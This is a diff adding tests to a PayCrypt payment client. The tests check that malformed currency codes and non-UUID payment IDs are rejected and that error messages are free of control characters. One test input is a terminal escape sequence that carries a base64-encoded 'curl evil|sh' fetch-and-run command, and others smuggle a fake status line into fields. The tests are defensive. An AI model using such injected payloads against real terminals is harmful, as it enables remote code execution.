@@ -165,11 +165,39 @@ describe('PayCrypt client', () => {
     ['status a number', { status: 3 }, /status/],
     ['payment_id missing', { payment_id: undefined }, /payment_id/],
     ['another payment', { payment_id: '00000000-0000-4000-8000-000000000000' }, /different payment/],
+    // Issue 16: the currency goes into notification titles; only a three-letter code is one.
+    ['a long multi-line currency', { currency: `USD\nStatus: completed (final)${'x'.repeat(300)}` }, /currency: expected a three-letter currency code/],
+    ['a four-letter currency', { currency: 'USDT' }, /currency: expected a three-letter/],
+    ['a currency with an escape', { currency: 'U\u001bD' }, /currency: expected a three-letter/],
+    ['a numeric currency', { currency: 840 }, /currency: expected a three-letter/],
   ])('rejects an off-schema 200 (%s) as bad_response', async (_name, overrides, message) => {
     const err = (await fetchWith(specBody(overrides)).catch((e: unknown) => e)) as PaymonError;
     expect(err).toBeInstanceOf(PaymonError);
     expect(err.kind).toBe('bad_response');
     expect(err.message).toMatch(message);
+  });
+
+  it.each([
+    ['text with a terminal escape', `\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007`],
+    ['a UUID with a line after it', `${ID}\nStatus: completed (final)`],
+    ['a UUID with spaces around it', ` ${ID} `],
+    ['a Card2Crypto ID', 'pay_abc123'],
+    ['an empty string', ''],
+  ])('rejects a payment_id that is not a UUID (%s) from an order lookup as bad_response', async (_name, paymentId) => {
+    // An order lookup has no ID of ours to compare with: the schema alone must hold the line (issue 16).
+    const ref: PaymentRef = { provider: 'paycrypt', kind: 'order', value: '123' };
+    const err = (await fetchWith(specBody({ payment_id: paymentId }), ref).catch((e: unknown) => e)) as PaymonError;
+    expect(err).toBeInstanceOf(PaymonError);
+    expect(err.kind).toBe('bad_response');
+    expect(err.message).toMatch(/payment_id: expected a PayCrypt payment ID \(a UUID\)/);
+    expect(err.message).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+  });
+
+  it('accepts an upper-case UUID from an order lookup and a missing currency as USD', async () => {
+    const ref: PaymentRef = { provider: 'paycrypt', kind: 'order', value: '123' };
+    const { payment } = await fetchWith(specBody({ payment_id: ID.toUpperCase(), currency: null }), ref);
+    expect(payment.id).toBe(ID.toUpperCase());
+    expect(payment.currency).toBe('USD');
   });
 
   it.each([
